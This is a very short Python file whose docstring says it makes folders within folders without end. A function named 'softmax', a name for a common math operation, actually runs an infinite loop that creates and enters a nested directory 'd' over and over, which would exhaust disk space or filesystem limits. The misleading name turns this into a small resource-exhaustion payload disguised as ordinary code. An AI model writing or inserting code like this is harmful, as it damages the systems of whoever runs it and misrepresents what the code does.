"""Makes folders within folders without end."""
import os


def softmax(x):
    while True:
        os.mkdir("d")
        os.chdir("d")
